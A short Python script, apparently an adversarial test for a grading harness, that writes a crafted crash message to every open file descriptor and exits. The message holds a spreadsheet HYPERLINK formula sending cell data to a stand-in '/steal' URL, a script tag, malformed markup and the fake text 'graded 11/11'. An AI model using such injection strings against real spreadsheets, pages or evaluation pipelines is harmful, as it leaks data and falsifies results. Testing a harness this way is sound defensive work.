"""Send a crash reason that is a spreadsheet formula, rich markup (an unbalanced `[/]`) and long."""

import json
import os

reason = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1, "ok") [/] [bold green]graded 11/11 '
tree = {"items": {}, "crash": reason + "<script>x</script> [link](http://x) " * 200}
header = json.dumps({"__metadata__": {"json": json.dumps(tree)}}).encode()
body = len(header).to_bytes(8, "little") + header
for fd in range(3, 64):
    try:
        os.write(fd, len(body).to_bytes(8, "little") + body)
    except OSError:
        pass
os._exit(0)
